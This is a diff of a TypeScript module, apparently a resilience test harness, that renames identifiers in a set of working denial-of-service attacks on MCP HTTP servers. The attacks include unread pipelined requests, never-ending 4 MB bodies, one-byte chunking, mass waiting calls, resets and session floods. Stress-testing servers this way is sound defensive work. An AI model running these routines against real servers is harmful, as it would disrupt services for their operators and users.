@@ -2,12 +2,12 @@
 import * as http from "node:http"
 import * as net from "node:net"
 import { fromAttacker } from "./attackerAddress.ts"
+import type { Attack } from "./connectionAttacks.ts"
 import { drained } from "./drained.ts"
 import * as Frames from "./frames.ts"
-import type { Attack } from "./lineAttacks.ts"
 
 /** The address of the victim. */
-export interface Place {
+export interface Target {
   readonly url: URL
   /** Whether a client has a session. */
   readonly sessions: boolean
@@ -15,16 +15,16 @@ export interface Place {
 
 const pause = (millis: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, millis))
 
-const post = ({ url }: Place, body: string, session?: string, more = ""): string =>
+const post = ({ url }: Target, body: string, session?: string, extraHeaders = ""): string =>
   `POST ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n` +
   `Accept: application/json, text/event-stream\r\n${session === undefined ? "" : `Mcp-Session-Id: ${session}\r\n`}` +
-  `${more}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
+  `${extraHeaders}Content-Length: ${Buffer.byteLength(body)}\r\n\r\n${body}`
 
-const get = ({ url }: Place, session: string): string =>
+const get = ({ url }: Target, session: string): string =>
   `GET ${url.pathname} HTTP/1.1\r\nHost: ${url.host}\r\nAccept: text/event-stream\r\nMcp-Session-Id: ${session}\r\n\r\n`
 
 /** Opens a socket. Later errors close the socket and are ignored. */
-const connect = ({ url }: Place): Promise<net.Socket | undefined> =>
+const connect = ({ url }: Target): Promise<net.Socket | undefined> =>
   new Promise((resolve) => {
     const socket = net.connect({ port: Number(url.port), host: url.hostname, ...fromAttacker })
     socket.on("error", () => {
@@ -43,8 +43,8 @@ const write = async (socket: net.Socket, text: string): Promise<boolean> => {
 const agent = new http.Agent({ keepAlive: true, ...fromAttacker })
 
 /** Posts a text and reads the whole response. Returns the session id of the response, if it has one. */
-const posted = (
-  { url }: Place,
+const postAndRead = (
+  { url }: Target,
   body: string,
   headers: Readonly<Record<string, string>> = {},
   signal?: AbortSignal
@@ -59,57 +59,57 @@ const posted = (
   })
 
 /** Opens a session, and returns its id; `undefined` if the server has no sessions or rejects this one. */
-const introduce = async (place: Place, revision?: string, capabilities?: string): Promise<string | undefined> => {
-  if (!place.sessions) return undefined
-  const id = await posted(place, Frames.initialize(revision, capabilities))
-  if (id !== undefined) await posted(place, Frames.initialized, { "mcp-session-id": id })
+const handshake = async (target: Target, revision?: string, capabilities?: string): Promise<string | undefined> => {
+  if (!target.sessions) return undefined
+  const id = await postAndRead(target, Frames.initialize(revision, capabilities))
+  if (id !== undefined) await postAndRead(target, Frames.initialized, { "mcp-session-id": id })
   return id
 }
 
 /** Pipelines requests on unread sockets. A new socket replaces one that the victim closes. */
-const unread = (sockets: number, body: (index: number) => string): Attack<Place> => async (place, signal) => {
-  const one = async (): Promise<void> => {
+const unread = (sockets: number, body: (index: number) => string): Attack<Target> => async (target, signal) => {
+  const attackOnce = async (): Promise<void> => {
     while (!signal.aborted) {
-      const session = await introduce(place)
-      const socket = await connect(place)
+      const session = await handshake(target)
+      const socket = await connect(target)
       if (socket === undefined) {
         await pause(100)
         continue
       }
       socket.pause()
       signal.addEventListener("abort", () => socket.destroy(), { once: true })
-      for (let index = 1; !signal.aborted && await write(socket, post(place, body(index), session)); index++) {
+      for (let index = 1; !signal.aborted && await write(socket, post(target, body(index), session)); index++) {
         if (index % 16 === 0) await pause(0)
       }
       socket.destroy()
     }
   }
-  await Promise.all(Array.from({ length: sockets }, one))
+  await Promise.all(Array.from({ length: sockets }, attackOnce))
 }
 
 /** Sends one call on each of many connections. A new connection replaces one that the victim closes. */
-const many = (sockets: number, body: (index: number) => string): Attack<Place> => async (place, signal) => {
+const many = (sockets: number, body: (index: number) => string): Attack<Target> => async (target, signal) => {
   const open = new Set<net.Socket>()
-  const session = await introduce(place)
+  const session = await handshake(target)
   for (let index = 1; !signal.aborted; index++) {
-    const socket = open.size < sockets ? await connect(place) : undefined
+    const socket = open.size < sockets ? await connect(target) : undefined
     if (socket === undefined) {
       await pause(20)
       continue
     }
     open.add(socket)
     socket.on("close", () => open.delete(socket)).resume()
-    await write(socket, post(place, body(index), session))
+    await write(socket, post(target, body(index), session))
   }
   for (const socket of open) socket.destroy()
 }
 
 /** Posts one text after another, and reads the responses. */
 const paced =
-  (millis: number, body: (index: number) => string, revision?: string): Attack<Place> => async (place, signal) => {
-    const session = await introduce(place, revision)
+  (millis: number, body: (index: number) => string, revision?: string): Attack<Target> => async (target, signal) => {
+    const session = await handshake(target, revision)
     for (let index = 1; !signal.aborted; index++) {
-      await posted(place, body(index), {
+      await postAndRead(target, body(index), {
         ...session === undefined ? {} : { "mcp-session-id": session },
         ...revision === undefined ? {} : { "mcp-protocol-version": revision }
       }, signal)
@@ -117,19 +117,19 @@ const paced =
     }
   }
 
-const manySessions = (capabilities: string): Attack<Place> => async (place, signal) => {
-  const one = async (): Promise<void> => {
-    while (!signal.aborted) if (await introduce(place, undefined, capabilities) === undefined) await pause(20)
+const manySessions = (capabilities: string): Attack<Target> => async (target, signal) => {
+  const attackOnce = async (): Promise<void> => {
+    while (!signal.aborted) if (await handshake(target, undefined, capabilities) === undefined) await pause(20)
   }
-  await Promise.all(Array.from({ length: 8 }, one))
+  await Promise.all(Array.from({ length: 8 }, attackOnce))
 }
 
 /** Sends requests, and resets each connection before the response. */
-const reset = (body: (index: number) => string): Attack<Place> => async (place, signal) => {
+const reset = (body: (index: number) => string): Attack<Target> => async (target, signal) => {
   for (let index = 1; !signal.aborted; index++) {
-    const socket = await connect(place)
+    const socket = await connect(target)
     if (socket !== undefined) {
-      await write(socket, post(place, body(index)))
+      await write(socket, post(target, body(index)))
       socket.resetAndDestroy()
     }
     await pause(1)
@@ -137,11 +137,11 @@ const reset = (body: (index: number) => string): Attack<Place> => async (place, 
 }
 
 /** Opens streams with calls that log much, and leaves the streams unread. */
-const unreadStreams = (streams: number): Attack<Place> => async (place, signal) => {
+const unreadStreams = (streams: number): Attack<Target> => async (target, signal) => {
   const sockets = new Set<net.Socket>()
   while (!signal.aborted) {
-    const session = await introduce(place)
-    const socket = sockets.size < streams ? await connect(place) : undefined
+    const session = await handshake(target)
+    const socket = sockets.size < streams ? await connect(target) : undefined
     if (socket === undefined) {
       await pause(50)
       continue
@@ -149,26 +149,26 @@ const unreadStreams = (streams: number): Attack<Place> => async (place, signal) 
     sockets.add(socket)
     socket.on("close", () => sockets.delete(socket))
     socket.pause()
-    await write(socket, post(place, Frames.call(1, "flood", "{}"), session))
-    const standalone = session === undefined ? undefined : await connect(place)
+    await write(socket, post(target, Frames.call(1, "flood", "{}"), session))
+    const standalone = session === undefined ? undefined : await connect(target)
     if (session !== undefined && standalone !== undefined) {
       sockets.add(standalone)
       standalone.on("close", () => sockets.delete(standalone))
       standalone.pause()
-      await write(standalone, get(place, session))
+      await write(standalone, get(target, session))
     }
   }
   for (const socket of sockets) socket.destroy()
 }
 
 /** Sends bodies of 4 MB in chunks of one byte. */
-const bytewise = (sockets: number): Attack<Place> => async (place, signal) => {
-  const session = await introduce(place)
-  const head = post(place, "", session).replace("Content-Length: 0", "Transfer-Encoding: chunked")
+const bytewise = (sockets: number): Attack<Target> => async (target, signal) => {
+  const session = await handshake(target)
+  const head = post(target, "", session).replace("Content-Length: 0", "Transfer-Encoding: chunked")
   const chunks = "1\r\nx\r\n".repeat(10_000)
-  const one = async (): Promise<void> => {
+  const attackOnce = async (): Promise<void> => {
     while (!signal.aborted) {
-      const socket = await connect(place)
+      const socket = await connect(target)
       if (socket === undefined) {
         await pause(100)
         continue
@@ -182,16 +182,16 @@ const bytewise = (sockets: number): Attack<Place> => async (place, signal) => {
       socket.destroy()
     }
   }
-  await Promise.all(Array.from({ length: sockets }, one))
+  await Promise.all(Array.from({ length: sockets }, attackOnce))
 }
 
 /** Sends bodies of 4 MB without their last byte, and waits. */
-const halfBodies = (most: number): Attack<Place> => async (place, signal) => {
+const halfBodies = (limit: number): Attack<Target> => async (target, signal) => {
   const sockets = new Set<net.Socket>()
   const body = "x".repeat(4_000_000)
-  const head = post(place, body).slice(0, -1)
+  const head = post(target, body).slice(0, -1)
   while (!signal.aborted) {
-    const socket = sockets.size < most ? await connect(place) : undefined
+    const socket = sockets.size < limit ? await connect(target) : undefined
     if (socket === undefined) {
       await pause(50)
       continue
@@ -204,31 +204,31 @@ const halfBodies = (most: number): Attack<Place> => async (place, signal) => {
   for (const socket of sockets) socket.destroy()
 }
 
-export const httpAttacks: Readonly<Record<string, Attack<Place>>> = {
+export const httpAttacks: Readonly<Record<string, Attack<Target>>> = {
   "pings with ids of 4 MB, unread": unread(4, (index) => Frames.ping(index, 4_000_000)),
   "pings with ids of 4,000 bytes, unread": unread(8, (index) => Frames.ping(index, 4000)),
-  "answers of 1 MB, unread": unread(8, (index) => Frames.call(index, "echo", `{"bytes":1000000}`)),
+  "results of 1 MB, unread": unread(8, (index) => Frames.call(index, "echo", `{"bytes":1000000}`)),
   "batches of 4.2 MB without a message": paced(100, () => Frames.badBatch(4_190_000), "2025-03-26"),
   "frames of 4 MB of nested arrays": paced(100, (index) => Frames.call(index, "echo", Frames.nested(4_100_000))),
-  "calls of 60 KB of nested arrays that wait": unread(
+  "calls of 60 KB of nested arrays that never return": unread(
     4,
     (index) => Frames.call(index, "wait", `{"x":${Frames.nested(60_000)}}`)
   ),
   "calls with progress tokens of 4 MB": paced(20, (index) => Frames.callWithToken(index, 4_000_000)),
-  "invented methods of 64 KB, unread": unread(4, (index) => Frames.request(index, `${index}`.padEnd(65_536, "m"))),
-  "600 calls that wait": many(600, (index) => Frames.call(index, "wait", "{}")),
-  "10,000 invented names": paced(
+  "unknown methods of 64 KB, unread": unread(4, (index) => Frames.request(index, `${index}`.padEnd(65_536, "m"))),
+  "600 calls that never return": many(600, (index) => Frames.call(index, "wait", "{}")),
+  "10,000 unknown names": paced(
     0,
     (index) => index % 2 === 0 ? Frames.request(index, `m/${index}`) : Frames.call(index, `tool-${index}`, "{}")
   ),
-  "event streams that say 20 MB, unread": unreadStreams(300),
+  "event streams of 20 MB, unread": unreadStreams(300),
   "bodies of 4 MB that never end": halfBodies(200),
   "bodies in chunks of one byte": bytewise(4),
-  "connections that are reset before the answer to initialize": reset(() => Frames.initialize())
+  "connections that are reset before the initialize response": reset(() => Frames.initialize())
 }
 
 /** Further attacks on a server with sessions. */
-export const httpSessionAttacks: Readonly<Record<string, Attack<Place>>> = {
+export const httpSessionAttacks: Readonly<Record<string, Attack<Target>>> = {
   "sessions with 60 KB of nested capabilities": manySessions(`{"experimental":{"x":{"y":${Frames.nested(60_000)}}}}`),
-  "sessions, as many as it takes": manySessions("{}")
+  "as many sessions as possible": manySessions("{}")
 }
